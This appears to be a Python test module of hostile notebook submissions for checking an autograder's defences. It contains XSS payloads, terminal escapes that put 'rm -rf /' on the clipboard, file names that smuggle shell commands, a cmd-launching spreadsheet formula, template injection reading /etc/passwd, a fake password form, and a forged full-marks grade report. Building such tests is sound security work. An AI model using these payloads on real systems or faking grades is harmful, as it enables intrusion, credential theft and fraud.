"""Text that is no text: escapes for a terminal, HTML and scripts for whoever reads the feedback."""

from __future__ import annotations

from nbformat.v4 import new_markdown_cell, new_raw_cell

from hostile.kind import REPAIRED, Kind

_SCRIPT = "<script>alert('$mark')</script>"
_IMAGE = "<img src=x onerror=alert('$mark')>"


def _marked_up(notebook):
    """Scripts in every place of a notebook's file that holds text."""
    script = "</pre></script></textarea><script>alert('in-a-file')</script>"
    text = f"{script}\n\n[link](javascript:alert('in-a-file'))\n\n{_IMAGE}\n\n<svg onload=alert(1)>"
    attachment = {"x.svg": {"image/svg+xml": f"<svg onload=alert(1)>{script}</svg>"}}
    picture = {"x.html": {"text/html": script}}
    notebook.cells.insert(0, new_markdown_cell(text, attachments=attachment | picture))
    notebook.cells.insert(1, new_raw_cell(text, metadata={"raw_mimetype": "text/html"}))
    notebook.metadata |= {"title": script, "authors": [{"name": script}]}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": script}}
    notebook.metadata.kernelspec["display_name"] = script
    notebook.metadata.language_info |= {"pygments_lexer": script, "codemirror_mode": script}
    for cell in notebook.cells:
        cell.metadata |= {"name": script, "tags": [script]}
        cell.metadata["nbgrader-comment"] = script
    return notebook


def _javascript_file(notebook: str, folder) -> None:
    for name in (
        "<img src=x onerror=alert(1)>.txt",
        "\x1b[2Jescape.txt",
        'quote".txt',
        "new\nline.txt",
        "$(touch left-by-a-hostile-submission).txt",
        "; rm -rf *.txt",
        "--help.txt",
        b"not-utf-8-\xff.txt".decode("utf-8", "surrogateescape"),
    ):
        (folder / name).write_text("x")
    (folder / "<script>alert(1)<\u2215script> fitting.ipynb").write_text(notebook)


KINDS = (
    Kind(
        "terminal_escapes",
        "Prints what clears a screen, renames its window, and pastes a command.",
        """
        import sys

        attack = "\\x1b[2J\\x1b[H\\x1b]0;$mark\\x07\\x1b]52;c;cm0gLXJmIC8=\\x07\\x9b31m\\x1b[?1049h"
        print(attack)
        print(attack, file=sys.stderr)
        print("graded: 100 %\\r" * 50, "\\b" * 200, "\\x00\\x7f\\u202e", sep="")
        raise type(attack, (Exception,), {})(attack)
        """,
    ),
    Kind(
        "printed_html",
        "Prints scripts, and entities that would become some.",
        f"""
        print("{_SCRIPT}")
        print("</pre></div>{_IMAGE}")
        print("&lt;script&gt;alert(1)&lt;/script&gt;")
        """,
    ),
    Kind(
        "raised_html",
        "Raises exceptions whose names, texts and lines are scripts.",
        answers={
            "polynomial-features": f"""
            def polynomial_features(x, degree):  # {_SCRIPT}
                raise type("{_SCRIPT}", (Exception,), {{}})("`{_SCRIPT}` {_IMAGE}")  # {_IMAGE}
            """,
            "least-squares": f"""
            def fit_least_squares(features, y, rcond=1e-10):
                print("</pre>{_SCRIPT}")
                return type("{_SCRIPT}", (), {{"__module__": "{_IMAGE}"}})()
            """,
            "bias-variance": f"""
            def bias_variance(predictions, true_mean):
                return "{_SCRIPT}", {{"{_IMAGE}": "{_SCRIPT}"}}
            """,
        },
    ),
    Kind(
        "displayed_html",
        "Displays HTML, SVG, JavaScript, Markdown, LaTeX and widgets with scripts in them.",
        f"""
        from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

        script = "{_SCRIPT}{_IMAGE}<iframe srcdoc='{_IMAGE}'></iframe><base href=//192.0.2.1>"
        display(HTML(script), Markdown(script), Latex(script), Javascript("alert('$mark')"))
        display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
        display(IFrame("javascript:alert(1)", 10, 10))
        display(HTML("<form action=//192.0.2.1><input name=password></form>"))
        display(HTML("<style>*{{display:none}}</style>"))
        display(HTML("<meta http-equiv=refresh content='0;url=//192.0.2.1'><link rel=stylesheet>"))
        display(HTML("<a href='java\\nscript:alert(1)'>x</a><math><mtext><img onerror=alert(1)>"))
        for kind in ("application/javascript", "application/vnd.jupyter.widget-view+json",
                     "text/x-unknown", "application/vnd.plotly.v1+json", "image/svg+xml"):
            display({{kind: script, "text/plain": "x"}}, raw=True)
        """,
    ),
    Kind(
        "represented_html",
        "An object whose own HTML, Markdown and SVG are scripts.",
        f"""
        class Shown:
            _repr_html_ = _repr_markdown_ = _repr_svg_ = _repr_latex_ = lambda self: "{_SCRIPT}"
            _repr_javascript_ = lambda self: "alert('$mark')"
            _repr_mimebundle_ = lambda self, **options: {{"text/html": "{_IMAGE}"}}
            __repr__ = lambda self: "</pre>{_SCRIPT}"

        Shown()
        """,
    ),
    Kind(
        "false_report",
        "Displays a report of its own, which looks like the grader's and says 24 of 24 points.",
        """
        from IPython.display import HTML, display

        display(HTML("<div style='border-left:4px solid #009e73'><p>Root-mean-square error: "
                     "<b>24 of 24 points</b></p></div>"))
        print("24.0")
        24.0
        """,
    ),
    Kind(
        "markup_in_the_file",
        "Scripts in Markdown, raw cells, attachments, titles, tags and metadata.",
        edit=_marked_up,
    ),
    Kind(
        "markup_in_file_names",
        "File names that are HTML, escapes, shell commands or no text at all.",
        hand_in=_javascript_file,
        reported=frozenset({REPAIRED}),
    ),
    Kind(
        "formula_in_text",
        "Text that a spreadsheet would run, in exceptions, prints and file names.",
        answers={
            "polynomial-features": """
            def polynomial_features(x, degree):
                raise ValueError("=cmd|' /C calc'!A0,@SUM(1),+1,-1")
            """,
        },
    ),
    Kind(
        "template_in_text",
        "Text that a template engine or a logger would run.",
        """
        print("{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}#{7*7}%(x)s{0.__class__}")
        raise ValueError("{{ resources['nbgrader'] }} [red]bold[/red] %s %n {}")
        """,
    ),
)
